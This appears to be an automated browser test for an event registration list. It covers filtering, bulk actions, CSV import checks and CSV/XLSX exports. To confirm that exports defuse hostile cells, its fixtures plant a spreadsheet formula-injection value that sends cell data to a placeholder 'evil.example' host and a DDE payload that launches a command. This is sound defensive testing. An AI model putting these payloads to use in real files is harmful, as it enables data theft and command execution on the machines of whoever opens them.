// An organizer's list on a phone, in English and in Arabic: narrowed, kept as a
// view, many changed at once after a look at what would happen, a note, people
// added one by one and by a table with bad lines; and the list as files that
// other programs read.
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { launch, violations } from '../support/browser.mjs';
import { base, end, same, tell, Visitor } from '../support/visitor.mjs';
import { boss, event, program, registerAll, run, sql } from '../support/event.mjs';

const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'list-'));
const pictures = process.env.LIST_PICTURES;

const admin = await boss();
const programs = await program(admin);
const FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")';

const hall = async () => {
  const id = await event(admin, programs, { seats: 25 });
  const people = registerAll(id, Array.from({ length: 30 }, (_, i) => ({ name: `Person ${String.fromCharCode(65 + (i % 26))}${i}`, email: `p${i}-${id}-${run}@list.example` })));
  sql(`update data.registration set country = 'KE', organisation = 'Lake, "Mill" & Co' where id in (${people.slice(0, 7).map((p) => p.id)})`);
  sql(`update data.registration set organisation = $$${FORMULA}$$ where id = ${people[0].id}`);
  const question = (key, position, kind, sensitive) => Number(sql(`with q as (insert into data.question (event_id, key, position, kind, label, options, sensitive)
    values (${id}, '${key}', ${position}, '${kind}', '{"en": "About ${key}"}', '[{"value": "a", "label": {"en": "Apple"}}]', ${sensitive}) returning *),
    w as (insert into data.question_wording (question_id, number, label, help, options) select id, 1, label, help, options from q) select id from q`)[0][0]);
  const asked = { words: question('words', 1, 'short', false), fruit: question('fruit', 2, 'choices', false), age: question('age', 3, 'number', false),
    day: question('day', 4, 'date', false), food: question('food', 5, 'dietary', true) };
  const says = (person, of, value) => sql(`insert into data.answer (registration_id, question_id, event_id, value, wording, language) values (${person.id}, ${of}, ${id}, $$${JSON.stringify(value)}$$, 1, 'en')`);
  says(people[0], asked.words, '@SUM(1+1)*cmd|\' /C calc\'!A0');
  says(people[1], asked.fruit, ['a']);
  says(people[0], asked.age, 42);
  says(people[0], asked.day, '2031-02-03');
  says(people[0], asked.food, { chosen: ['a'], words: 'no nuts' });
  return { id, people, asked };
};

const wrong = [];
const phone = async (browser, lang) => {
  const context = await browser.newContext({ viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, locale: lang, acceptDownloads: true, timezoneId: 'Africa/Nairobi' });
  context.setDefaultTimeout(15000);
  await context.addCookies([...admin.cookies].map(([name, value]) => ({ name, value, url: base })));
  await context.addCookies([{ name: 'lang', value: lang, url: base }]);
  const page = await context.newPage();
  page.on('console', (m) => m.type() === 'error' && !/status of 4(09|22)/.test(m.text()) && wrong.push(`${page.url()}: ${m.text()}`));
  page.on('pageerror', (e) => wrong.push(`${page.url()}: ${e.message}`));
  return page;
};
const press = (page, selector) => Promise.all([page.waitForNavigation(), page.locator(selector).first().click()]);
const rows = (page) => page.locator('table.ticks tbody tr').count();
const state = (id) => sql(`select state from data.registration where id = ${id}`)[0][0];

// No violation by axe, nothing wider than the phone.
const good = async (page, lang, what) => {
  const found = await violations(page);
  const wide = await page.evaluate(() => document.documentElement.scrollWidth) - 360;
  tell(found.length === 0 && wide <= 0, `${lang}: ${what} is for everybody, and as wide as the phone`, `${found.join('\n')} ${wide}`);
  if (pictures) await page.screenshot({ path: path.join(pictures, `${what.replaceAll(' ', '-')}-${lang}.png`), fullPage: true });
};

const narrowed = async (page, lang, { id }) => {
  await page.goto(`${base}/events/${id}/registrations`);
  same(await page.locator('html').getAttribute('dir'), lang === 'ar' ? 'rtl' : 'ltr', `${lang}: the page reads as its language does`);
  same(await rows(page), 30, `${lang}: all are listed`);
  await good(page, lang, 'the list');
  await page.locator('form.narrowing summary').click();
  await page.locator('form.narrowing input[name=state][value=confirmed]').check();
  await page.locator('#n-country').selectOption(['KE', 'UG']);
  await page.locator('#n-region').selectOption('SSF');
  await good(page, lang, 'what the list is narrowed by');
  await press(page, 'form.narrowing .panel .button');
  same(await rows(page), 7, `${lang}: narrowed by state, countries and region`);
  await page.fill('#q', 'person c');
  await press(page, 'form.narrowing .search .button');
  same(await rows(page), 1, `${lang}: and by a part of the name`);
  await page.fill('#q', '');
  await press(page, 'form.narrowing .search .button');
};

const viewed = async (page, lang, { id }) => {
  await page.locator('details.views > summary').click();
  await page.fill('#f-name', `Kenya ${lang}`);
  await press(page, 'details.views > form .button');
  await page.locator('details.views > summary').click();
  await good(page, lang, 'saved views');
  await press(page, 'details.views li > a');
  same(await rows(page), 7, `${lang}: a saved view is the list it was`);
  await page.locator('details.views > summary').click();
  await page.locator('details.views li summary').click();
  await page.fill('details.views li input[name=name]', `Kenya now ${lang}`);
  await page.locator('details.views li input[name=shared]').check();
  await press(page, 'details.views li form .button');
  same(sql(`select name, shared from data.saved_view where event_id = ${id}`).join(), `Kenya now ${lang},t`, `${lang}: it is named anew, and shared`);
  await page.locator('details.views > summary').click();
  await page.locator('details.views li summary').click();
  await press(page, 'details.views li .danger');
  same(sql(`select count(*) from data.saved_view where event_id = ${id}`)[0][0], '0', `${lang}: and removed`);
};

const bulk = async (page, lang, { id, people }) => {
  await page.goto(`${base}/events/${id}/registrations`);
  await page.selectOption('#f-whom', 'cancel');
  await press(page, '.bulk .button');
  tell(await page.locator('.errors').count() === 1, `${lang}: nobody chosen is said`);
  await page.goto(`${base}/events/${id}/registrations?state=confirmed&state=waitlisted&sort=arrival`);
  for (const person of [people[2], people[3]]) await page.locator(`input[name=id][value="${person.id}"]`).check();
  await page.selectOption('#f-whom', 'cancel');
  await press(page, '.bulk .button');
  same(await page.locator('.outcomes > li').count(), 1, `${lang}: what would happen is shown`);
  same(`${state(people[2].id)} ${state(people[25].id)}`, 'confirmed waitlisted', `${lang}: and has not happened`);
  await good(page, lang, 'what would happen');
  await press(page, 'form.form .button');
  await good(page, lang, 'what has happened');
  same(`${state(people[2].id)} ${state(people[3].id)} ${state(people[25].id)} ${state(people[26].id)}`, 'cancelled cancelled confirmed confirmed', `${lang}: two are cancelled, and the next two in line have their seats`);

  await page.goto(`${base}/events/${id}/registrations`);
  await page.locator('input[name=whom][value=all]').check();
  await page.selectOption('#f-whom', 'cancel');
  await page.selectOption('#f-whom', 'approve');
  await press(page, '.bulk .button');
  same(await page.locator('.outcomes > li.bad').count() > 0 && await page.locator('form.form').count() === 0, true, `${lang}: what is not possible is said, and not offered`);

  const last = people[29].id;
  sql(`update data.pool set seats = seats + 1 where event_id = ${id}`);
  await page.goto(`${base}/events/${id}/queue`);
  await good(page, lang, 'the waiting list');
  await press(page, `form:has(input[name=id][value="${last}"]) button`);
  await press(page, 'form.form .button');
  same(`${await page.locator('#f-reason-fault').count()} ${state(last)}`, '1 waitlisted', `${lang}: whoever passes others in the line needs a reason`);
  await good(page, lang, 'what would happen out of turn');
  await page.fill('#f-reason', 'Speaks on the first day');
  await press(page, 'form.form .button');
  same(`${state(people[27].id)} ${state(last)} ${sql(`select why, note from data.registration_change where registration_id = ${last} order by id desc limit 1`)[0].join()}`,
    'waitlisted confirmed by_hand,Speaks on the first day', `${lang}: the last is confirmed before the others, and the history says why`);
  await page.goto(`${base}/events/${id}/queue`);
  await press(page, 'form:has(input[name=act][value=confirm]) button');
  same(await page.locator('.outcomes > li.bad').count(), 1, `${lang}: without a free seat nobody is`);

  await page.goto(`${base}/events/${id}/registrations?state=cancelled`);
  await page.locator('input[name=whom][value=all]').check();
  await page.selectOption('#f-whom', 'note');
  await press(page, '.bulk .button');
  await press(page, 'form.form .button');
  tell(await page.locator('#f-note-fault').count() === 1, `${lang}: a note without words is refused at its field`);
  await page.fill('#f-note', 'Called: comes another time');
  await admin.json(`/registrations/${people[4].id}/cancel`, {});
  await press(page, 'form.form .button');
  tell(await page.locator('.errors').count() === 1, `${lang}: a list that changed meanwhile is shown anew`);
  same(await page.inputValue('#f-note'), 'Called: comes another time', `${lang}: with what was typed`);
  await press(page, 'form.form .button');
  same(sql(`select count(*) from data.registration_note n join data.registration r on r.id = n.registration_id where r.event_id = ${id}`)[0][0], '3', `${lang}: the note is with all of them`);
};

const noted = async (page, lang, { people }) => {
  await page.goto(`${base}/registrations/${people[1].id}/organize`);
  await page.fill('#f-note', 'Vegetarian <b>&</b>\nasks for a letter');
  await press(page, 'form[action$="/notes"] .button');
  same(await page.locator('.note .lines').innerText(), 'Vegetarian <b>&</b>\nasks for a letter', `${lang}: a note is kept as it was written`);
  await good(page, lang, 'one registration');
};

const added = async (page, lang, { id }) => {
  await page.goto(`${base}/events/${id}/registrations/add`);
  await good(page, lang, 'the form to add somebody');
  await page.fill('#f-name', 'Zara Late');
  await page.fill('#f-email', `zara-${id}-${run}@list.example`);
  await page.selectOption('#f-country', 'TZ');
  await page.selectOption('#f-language', 'ar');
  await page.selectOption('#f-seat', 'now');
  await press(page, 'form.form .button');
  tell(await page.locator('#f-seat-fault').count() === 1, `${lang}: no seat is given that there is not`);
  same(await page.inputValue('#f-name'), 'Zara Late', `${lang}: what was typed stands there`);
  await page.selectOption('#f-seat', 'line');
  await press(page, 'form.form .button');
  same(sql(`select r.state, p.language from data.registration r join data.person p on p.id = r.person_id where r.event_id = ${id} and p.name = 'Zara Late'`).join(), 'waitlisted,ar', `${lang}: who is added stands in line`);
  await page.goto(`${base}/events/${id}/registrations/add`);
  await page.fill('#f-name', 'Zara Late');
  await page.fill('#f-email', `zara-${id}-${run}@list.example`);
  await page.selectOption('#f-seat', 'line');
  await press(page, 'form.form .button');
  tell(await page.locator('#f-email-fault').count() === 1, `${lang}: who is there already is refused at the address`);
};

const LINES = (id) => ['name,email,organisation,country,language', `Abena Osei,abena-${id}-${run}@list.example,"Coast, ""Ltd""",gh,FR`, `No Address,not-an-address,,,`,
  `Somewhere,some-${id}-${run}@list.example,,ZZ9,`, `Talks,talks-${id}-${run}@list.example,,,tlh`, `,empty-${id}-${run}@list.example,,,`,
  `Abena Again,ABENA-${id}-${run}@list.example,,,`, `Zara Late,zara-${id}-${run}@list.example,,,`, `Huge,huge-${id}-${run}@list.example,${'x'.repeat(20000)},,`, `Ümit 王,umit-${id}-${run}@list.example,,TR,en`].join('\r\n');

const imported = async (page, lang, { id }) => {
  const file = path.join(folder, `people-${lang}.csv`);
  const before = sql(`select count(*) from data.registration where event_id = ${id}`)[0][0];
  fs.writeFileSync(file, LINES(id));
  await page.goto(`${base}/events/${id}/registrations/import`);
  await good(page, lang, 'the form for a table');
  await page.setInputFiles('#f-file', file);
  await press(page, 'button[value=check]');
  same((await page.locator('tbody th').allInnerTexts()).join(), '3,4,5,6,7,8,9', `${lang}: each bad line of a table is named`);
  same((await page.locator('tbody td.mono').allInnerTexts()).join(), 'email,country,language,name,email,email,', `${lang}: and its column`);
  same(sql(`select count(*) from data.registration where event_id = ${id}`)[0][0], before, `${lang}: nothing is stored by a look`);
  await good(page, lang, 'a table with bad lines');
  await press(page, 'button[value=apply]');
  same(new URL(page.url()).pathname, `/events/${id}/registrations`, `${lang}: the good lines are taken`);
  same(sql(`select p.name, r.state, r.country, p.language, r.organisation from data.registration r join data.person p on p.id = r.person_id where r.event_id = ${id} and p.email ~ '^(abena|umit)' order by p.name`).join('|'),
    'Abena Osei,waitlisted,GH,fr,Coast, "Ltd"|Ümit 王,waitlisted,TR,en,', `${lang}: as they were written`);
};

// --- what a table may not be, and what may not be asked --------------------------

const table = async (id, bytes, more = {}) => {
  const body = new FormData();
  for (const [name, value] of Object.entries(more)) body.append(name, value);
  body.append('file', new Blob([bytes]), 'people.csv');
  const answer = await fetch(`${base}/events/${id}/registrations/import`, { method: 'POST', body, redirect: 'manual',
    headers: { accept: 'application/json', 'sec-fetch-site': 'same-origin', cookie: [...admin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
  const text = await answer.text();
  return { status: answer.status, value: text ? JSON.parse(text) : null };
};
const utf16 = (text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);

const refused = async ({ id, asked }) => {
  const key = async (bytes) => { const a = await table(id, bytes); return `${a.status} ${a.value.code}`; };
  const head = 'name,email\n';
  same(await key(utf16(`${head}A,a@b.example`)), '422 registration.import_utf16', 'UTF-16 is told by its name');
  same(await key(Buffer.from(`${head}Jos\xe9,a@b.example\n`, 'latin1')), '422 web.csv_encoding', 'Latin-1 is no UTF-8');
  same(await key(`${head}A\0,a@b.example`), '422 registration.import_nul', 'a NUL is no text');
  same(await key('name;mail\nA;a@b.example'), '422 registration.import_column', 'a column that lacks is named');
  same(await key(head + Array.from({ length: 20001 }, (_, i) => `P,p${i}@big.example`).join('\n')), '422 web.csv_rows', '20,001 lines are too many');
  const huge = await table(id, `${head}A,a@b.example\nB,b@b.example${'x'.repeat(1 << 20)}\n`);
  same(huge.value.wrong.map((w) => `${w.line} ${w.key}`).join(), '3 web.csv_cell', 'a cell of a megabyte is named by its line');
  const many = await table(id, head + Array.from({ length: 400 }, () => 'X,no').join('\n'));
  same(`${many.value.bad} ${many.value.wrong.length} ${many.value.unshown}`, '400 200 200', 'of very many bad lines the first are named, and all are counted');
  const ask = async (query) => { const a = await admin.json(`/events/${id}/registrations${query}`); return `${a.status} ${a.value.errors?.map((e) => e.field).join() ?? ''}`; };
  same(await ask('?state=asleep'), '422 state', 'a state that is none is refused at its field');
  same(await ask('?since=2031-02-30'), '422 since', 'a day that is none, too');
  same(await ask(`?question=${asked.food}`), '422 question', 'nobody narrows a list by a sensitive answer');
  same(await ask('.csv?filter=%7B%22wildcard%22%3A1%7D'), '422 wildcard', 'a member of a filter that is not known is refused by its name');
  const nameless = await admin.send(`/events/${id}/views`, { name: '', filter: '{"state":[5,"held"],"unit":[5],"country":7}' });
  same(nameless.status, 422, 'a filter of numbers is shown again with the view that has no name');
  const outcomes = (await admin.json(`/events/${id}/registrations/bulk`, { act: 'cancel', whom: 'all', filter: { state: ['confirmed'], q: 'person' } })).value;
  tell(outcomes.chosen === outcomes.outcomes.reduce((n, o) => n + o.people, 0), 'programs may ask what would happen', JSON.stringify(outcomes).slice(0, 300));
};

// --- a table that is brought in parts ---

const parts = async () => {
  const id = await event(admin, programs, { seats: 700 });
  const lines = (n) => 'name,email\n' + Array.from({ length: n }, (_, i) => `Part ${i},part-${i}-${id}@list.example`).join('\n');
  const apply = async (n, expected) => (await table(id, lines(n), { step: 'apply', expected })).value;
  const people = () => sql(`select count(*), count(distinct person_id), max(arrival) from data.registration where event_id = ${id}`)[0].join();
  const states = (value) => value.outcomes.map((o) => `${o.people} ${o.state}`).sort().join();
  same((await apply(1201, '1200')).code, 'registration.list_changed', 'what was not seen so is not done');
  same(states(await apply(1201, '1201')), '501 waitlisted,700 confirmed', 'a table of more than one part is one table');
  same(people(), '1201,1201,1201', 'each line is somebody, once');
  const again = await apply(1201, '0');
  same(`${again.good} ${again.bad} ${again.wrong[0].line} ${again.wrong[0].key} ${again.wrong[199].line}`, '0 1201 2 registration.already_there 201', 'a second time each line is named');
  same(people(), '1201,1201,1201', 'and nothing is changed');
  same(states(await apply(1210, '9')), '9 waitlisted', 'what is missing of a table is added by it');
};

// --- files, as others read them --------------------------------------------------

const python = (code, ...args) => JSON.parse(execFileSync('/usr/bin/python3', ['-c', code, ...args], { encoding: 'utf8' }));
const fetched = async (where) => {
  const answer = await fetch(base + where, { headers: { cookie: [...admin.cookies].map(([k, v]) => `${k}=${v}`).join('; ') } });
  const file = path.join(folder, path.basename(where.split('?')[0]));
  fs.writeFileSync(file, Buffer.from(await answer.arrayBuffer()));
  return { file, answer };
};
const CSV = `import csv, json, sys
print(json.dumps(list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))))`;
const XLSX = `import json, openpyxl, sys
sheet = openpyxl.load_workbook(sys.argv[1]).active
print(json.dumps([[[c.data_type, str(c.value), c.number_format] for c in row] for row in sheet.iter_rows()]))`;

const files = async ({ id, people, asked }) => {
  const filter = encodeURIComponent(JSON.stringify({ id: [people[0].id, people[1].id] }));
  const { file, answer } = await fetched(`/events/${id}/registrations.csv?filter=${filter}`);
  tell(/attachment; filename="registrations-\d+\.csv"/.test(answer.headers.get('content-disposition')), 'a file is given to keep');
  const csv = python(CSV, file);
  same(csv[0].join(), `id,name,email,language,state,via,country,organisation,audience,unit,bucket,arrival,created,arrived,${['words', 'fruit', 'age', 'day'].map((w) => `q${asked[w]} About ${w}`).join()}`, 'CSV: the columns are in their order, a question each by its number');
  const line = Object.fromEntries(csv[0].map((name, i) => [name.split(' ')[0], csv.find((row) => row[0] === String(people[0].id))[i]]));
  same(line.organisation, `'${FORMULA}`, 'CSV: what would be a formula is not');
  same(line[`q${asked.words}`], '\'@SUM(1+1)*cmd|\' /C calc\'!A0', 'CSV: nor what begins otherwise');
  same(`${line[`q${asked.age}`]} ${line[`q${asked.day}`]}`, '42 2031-02-03', 'CSV: numbers and days as programs read them');
  tell(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+0[23]:00$/.test(line.created), 'CSV: moments with the offset of the event’s zone', line.created);
  same(csv.length, 3, 'CSV: only whom the filter leaves');
  same(csv.find((row) => row[0] === String(people[1].id))[7], 'Lake, "Mill" & Co', 'CSV: quotes and commas come through');

  const book = python(XLSX, (await fetched(`/events/${id}/registrations.xlsx?filter=${filter}`)).file);
  const cells = Object.fromEntries(book[0].map((c, i) => [c[1].split(' ')[0], book.find((row) => row[0][1] === String(people[0].id))[i]]));
  same(`${cells.organisation[0]} ${cells.organisation[1]}`, `s ${FORMULA}`, 'XLSX: what would be a formula is a text');
  same(cells[`q${asked.words}`][0], 's', 'XLSX: an answer never is one either');
  same(`${cells.id[0]} ${cells[`q${asked.age}`].slice(0, 2).join()} ${cells[`q${asked.day}`].join()}`, 'n n,42 d,2031-02-03 00:00:00,yyyy-mm-dd', 'XLSX: numbers are numbers, days are days');
  same(`${cells.created[0]} ${cells.created[2]}`, 'd yyyy-mm-dd hh:mm', 'XLSX: moments are dates');
  tell(book[0].some((c) => c[1] === 'created (Africa/Cairo)'), 'XLSX: whose zone stands at the head');
  same(cells.created[1].slice(0, 16).replace(' ', 'T'), line.created.slice(0, 16), 'XLSX: the same moment as in CSV');

  const looks = () => Number(sql(`select count(*) from data.look l join data.registration r on r.id = l.registration_id where r.event_id = ${id}`)[0][0]);
  tell(!csv[0].some((name) => name.includes('food')) && looks() === 0, 'sensitive answers are in no file that does not ask for them');
  const told = python(CSV, (await fetched(`/events/${id}/registrations.csv?sensitive=true&filter=${filter}`)).file);
  same(told.find((row) => row[0] === String(people[0].id)).at(-1), 'Apple; no nuts', 'in one that asks they are, in words');
  same(looks(), 1, 'and it is noted whose were looked at');
};

const printed = async (page, lang, { id }) => {
  await page.goto(`${base}/events/${id}/registrations/print?list=signin`);
  tell(await page.locator('table.signin tbody tr').count() >= 30, `${lang}: there is a list to sign`);
  await good(page, lang, 'the list to sign');
  await page.goto(`${base}/events/${id}/registrations/print?list=badges&filter=${encodeURIComponent('{"state":"confirmed"}')}`);
  await good(page, lang, 'the badges');
};

const browser = await launch();
for (const lang of ['en', 'ar']) {
  const made = await hall();
  const page = await phone(browser, lang);
  for (const step of [narrowed, viewed, bulk, noted, added, imported, printed]) {
    try {
      await step(page, lang, made);
    } catch (e) {
      tell(false, `${lang}: ${step.name}`, `${page.url()} ${e.stack}`);
    }
  }
  if (lang === 'en') {
    await refused(made);
    await parts();
    await files(made);
  }
  await page.context().close();
}
await browser.close();
same(wrong.join('\n'), '', 'no error in the browser');
fs.rmSync(folder, { recursive: true });
end();
